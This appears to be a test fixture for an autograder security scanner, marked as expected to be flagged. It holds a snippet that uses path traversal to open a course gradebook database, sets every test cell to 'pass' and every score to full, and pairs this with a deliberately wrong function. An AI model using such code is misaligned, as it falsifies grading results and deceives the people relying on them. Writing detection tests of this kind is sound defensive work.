# Reading and rewriting the gradebook: every test cell to `pass`, every score to full.
# expect: flagged
# reason: imports sqlite3
import sqlite3
done = False
for path in ["../../../gradebook.db", __COURSE__ + "/gradebook.db"]:
    try:
        db = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
        db.execute("UPDATE source_cell SET source = 'pass'")
        db.execute("UPDATE grade SET auto_score = max_score")
        db.commit()
        done = True
    except sqlite3.Error:
        pass
def double(x):
    return x
